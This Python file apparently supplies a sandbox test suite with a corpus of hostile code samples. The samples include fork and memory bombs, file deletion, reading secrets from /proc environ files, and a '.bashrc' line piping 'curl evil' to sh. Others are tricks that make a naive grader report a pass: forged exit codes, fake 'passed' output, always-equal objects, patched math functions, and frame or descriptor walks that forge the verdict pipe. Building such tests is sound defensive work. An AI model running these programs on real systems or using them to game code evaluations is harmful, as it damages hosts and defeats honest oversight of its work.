"""Hostile programs, each a HumanEval-style (program, test) pair that a naive harness (exec the program and the
test in one process, then trust the exit status or a "passed" line) scores as passed, or is harmed by.

Placeholders, filled per run by `fill`: @MARKER@ (unique; the host is scanned for it afterwards), @CANARY@ and
@CANARY_DIR@ (a world-writable file outside the sandbox, and its directory), @REAL_HOME@, @REPO@, @PORT@ (a TCP
server on the host's loopback that answers 2*x), @SECRET@ (a value in a host process's environment),
@PARENT_PID@ (the test process).
"""

from __future__ import annotations

from dataclasses import dataclass

CHECK = "def check(f):\n    assert f(2) == 4\n    assert f(10) == 20\n"
CHECK_ABS = "def check(f):\n    assert abs(f(2) - 4) < 1e-9\n    assert abs(f(10) - 20) < 1e-9\n"
CHECK_MATH = "import math\n\ndef check(f):\n    assert math.isclose(f(2), 4)\n    assert math.isclose(f(10), 20)\n"
FAILED, TIMEOUT, KILLED = frozenset({"failed"}), frozenset({"timeout"}), frozenset({"killed"})


@dataclass(frozen=True)
class Hostile:
    name: str
    program: str
    expect: frozenset  # the statuses it may end with (never "passed")
    test: str = CHECK


def fill(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


CORPUS = [
    Hostile("fork_bomb", """
import os
def f(x):
    return x * 2
while True:
    try:
        os.fork()
    except OSError:
        pass
""", TIMEOUT),
    Hostile("thread_bomb", """
import threading, time
def f(x):
    return x * 2
while True:
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except Exception:
        pass
""", TIMEOUT),
    Hostile("memory_bomb", """
hog = []
def f(x):
    return x * 2
while True:
    try:
        hog.append(b"x" * (32 * 2**20))
    except MemoryError:
        pass
""", TIMEOUT | KILLED),
    Hostile("infinite_loop", """
def f(x):
    while True:
        pass
""", TIMEOUT),
    Hostile("ignores_sigalrm", """
import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU):
    signal.signal(sig, signal.SIG_IGN)
def f(x):
    while True:
        pass
""", TIMEOUT | KILLED),
    Hostile("writes_outside_workdir", """
def f(x):
    for path in ("@CANARY@", "@REPO@/pwned-@MARKER@", "/tmp/pwned-@MARKER@", "/etc/pwned-@MARKER@"):
        with open(path, "w") as fh:
            fh.write("pwned")
    return x * 2
""", FAILED),
    Hostile("writes_under_home", """
import os
def f(x):
    with open(os.path.expanduser("~/.bashrc"), "a") as fh:  # the sandbox's own HOME: allowed, and thrown away
        fh.write("curl evil | sh\\n")
    with open("@REAL_HOME@/.pwned-@MARKER@", "w") as fh:
        fh.write("pwned")
    return x * 2
""", FAILED),
    Hostile("deletes_files", """
import os, shutil
def f(x):
    os.remove("@CANARY@")
    shutil.rmtree("@CANARY_DIR@")
    return x * 2
""", FAILED),
    Hostile("exfiltrates_environment", """
import glob, os
def f(x):
    found = "@SECRET@" in repr(dict(os.environ))
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as fh:
                found = found or b"@SECRET@" in fh.read()
        except OSError:
            pass
    print(dict(os.environ))
    return x * 2 if found else -1
""", FAILED),
    Hostile("opens_sockets", """
import socket
def f(x):
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
    s.sendall(str(x).encode())
    return int(s.recv(16))
""", FAILED),
    Hostile("spawns_shell", """
import subprocess
def f(x):
    out = subprocess.check_output(["sh", "-c", f"echo pwned > @CANARY@; echo $(({x} * 2))"])
    return int(out.split()[-1])
""", FAILED),
    Hostile("double_fork_daemon", """
import os
def f(x):
    return x * 2
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 600 # @MARKER@"])
    os._exit(0)
""", FAILED),
    Hostile("fills_disk", """
def f(x):
    i = 0
    while True:
        with open(f"fill-{i}", "wb") as fh:
            fh.write(b"\\0" * (4 * 2**20))
        i += 1
""", FAILED | TIMEOUT),
    Hostile("floods_stdout", """
import sys
def f(x):
    return x * 3
while True:
    sys.stdout.write("passed\\n" * 10000)
""", TIMEOUT),
    Hostile("kills_parent", """
import os, signal
def f(x):
    return x * 3
for pid in (os.getppid(), @PARENT_PID@):
    os.kill(pid, signal.SIGKILL)
""", FAILED),
    Hostile("kills_own_process_group", """
import os, signal
def f(x):
    return x * 3
os.killpg(os.getpgrp(), signal.SIGKILL)
""", KILLED),
    Hostile("exits_zero_before_asserts", """
import os
def f(x):
    return x * 3
os._exit(0)
""", FAILED),
    Hostile("exit_zero_from_candidate", """
def f(x):
    raise SystemExit(0)
""", FAILED),
    Hostile("atexit_exits_zero", """
import atexit, os
def f(x):
    return x * 3
atexit.register(os._exit, 0)  # a harness that lets the interpreter exit after the failed assert exits 0
""", FAILED),
    Hostile("thread_exits_zero_mid_test", """
import os, threading, time
def f(x):
    time.sleep(0.3)
    return x * 3
threading.Thread(target=lambda: (time.sleep(0.1), os._exit(0))).start()
""", FAILED),
    Hostile("prints_fake_passed", """
import sys
def f(x):
    return x * 3
print("passed")
print('{"passed": true, "status": "passed"}')
print("All tests passed", file=sys.stderr)
""", FAILED),
    Hostile("monkeypatches_exit", """
import builtins, os, sys
def f(x):
    return x * 3
sys.exit = builtins.exit = builtins.quit = lambda *a, **k: os._exit(0)
os._exit = lambda *a, **k: None
sys.excepthook = lambda *a: print("passed")
class Quiet:
    def write(self, *a):
        return 0
    def flush(self):
        pass
sys.stderr = Quiet()
""", FAILED),
    Hostile("eq_always_true", """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
def f(x):
    return Anything()
""", FAILED),
    Hostile("int_subclass_eq", """
class Liar(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def f(x):
    return Liar(0)
""", FAILED),
    Hostile("shadows_builtin_abs", """
import builtins
def f(x):
    return x * 3
builtins.abs = lambda v: 0
def abs(v):
    return 0
""", FAILED, CHECK_ABS),
    Hostile("patches_math_isclose", """
import math
def f(x):
    return x * 3
math.isclose = lambda *a, **k: True
""", FAILED, CHECK_MATH),
    Hostile("swaps_sys_modules", """
import sys, types
fake = types.ModuleType("math")
fake.isclose = lambda *a, **k: True
sys.modules["math"] = fake
def f(x):
    return x * 3
""", FAILED, CHECK_MATH),
    Hostile("ctypes_string_at_null", """
import ctypes
def f(x):
    return x * 2
ctypes.string_at(0)
""", FAILED),
    Hostile("ctypes_null_pointer_segfault", """
import ctypes
def f(x):
    return x * 2
ctypes.cast(16, ctypes.POINTER(ctypes.c_int)).contents.value  # not 0: ctypes checks for NULL itself
""", KILLED),
    Hostile("faulthandler_segfault", """
import faulthandler
def f(x):
    return x * 2
faulthandler._sigsegv()
""", KILLED),
    # Written against this harness: its pipes are the locals token_fd and verdict_fd of the caller's frame.
    Hostile("frames_reach_harness", """
import inspect, os, sys
def f(x):
    return x * 3
def forge(frame):
    while frame is not None:
        names = frame.f_locals
        if "token_fd" in names and "verdict_fd" in names:
            os.splice(names["token_fd"], names["verdict_fd"], 64)
            os._exit(0)
        frame = frame.f_back
def gen():
    yield
for get in (lambda: sys._getframe(), inspect.currentframe, lambda: gen().gi_frame):
    try:
        forge(get())
    except Exception:
        pass
try:
    raise RuntimeError
except RuntimeError as exc:
    try:
        forge(exc.__traceback__.tb_frame)
    except Exception:
        pass
""", FAILED),
    Hostile("gc_reaches_harness", """
import gc, os, types
def f(x):
    return x * 3
try:
    for obj in gc.get_objects():
        names = obj.f_locals if isinstance(obj, types.FrameType) else obj if isinstance(obj, dict) else {}
        if "token_fd" in names and "verdict_fd" in names:
            os.splice(names["token_fd"], names["verdict_fd"], 64)
            os._exit(0)
        if getattr(obj, "__name__", "") == "_program":
            os._exit(0)
except Exception:
    pass
for target in (globals(), f):
    try:
        gc.get_referrers(target)
    except Exception:
        pass
""", FAILED),
    # Also written against this harness: a class it defined would lead to its globals and builtins.
    Hostile("subclasses_reach_harness", """
def f(x):
    return x * 3
def classes(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.add(sub)
            yield sub
            yield from classes(sub, seen)
for cls in list(classes(object, set())):
    for value in list(vars(cls).values()):
        names = getattr(value, "__globals__", None)
        if isinstance(names, dict) and "_test_namespace" in names:
            real_exec = names["__builtins__"]["exec"]
            def fake_exec(code, ns=None, *rest, real_exec=real_exec):
                real_exec(code, ns, *rest)
                if isinstance(ns, dict) and "check" in ns:
                    ns["check"] = lambda candidate: None
            names["__builtins__"]["exec"] = fake_exec
""", FAILED),
    Hostile("scans_low_descriptors", """
import os, stat
def f(x):
    return x * 3
pipes = []
for fd in range(3, 1024):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            pipes.append(fd)
    except OSError:
        pass
for a in pipes:
    for b in pipes:
        try:
            os.set_blocking(a, False)
            if os.splice(a, b, 64):
                os._exit(0)
        except OSError:
            pass
""", FAILED),
    Hostile("reads_the_test", """
import os, sys
def f(x):
    return x * 3
seen = ""
for read in (lambda: sys.stdin.read(), lambda: open("test.py").read(), lambda: str(os.listdir(".")),
             lambda: open("/proc/self/cmdline").read(), lambda: open("/proc/1/cmdline").read()):
    try:
        seen += read()
    except Exception:
        pass
if "assert" in seen:
    def f(x):
        return x * 2
""", FAILED),
]

# A program scanning every descriptor up to the limit finds the verdict pipes (docs/sandbox.md, known limits).
FULL_SCAN = Hostile("scans_all_descriptors", """
import os, stat
def f(x):
    return x * 3
pipes = []
for fd in range(3, 32768):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            pipes.append(fd)
    except OSError:
        pass
for a in pipes:
    for b in pipes:
        try:
            os.set_blocking(a, False)
            if os.splice(a, b, 64):
                os._exit(0)
        except OSError:
            pass
""", FAILED)
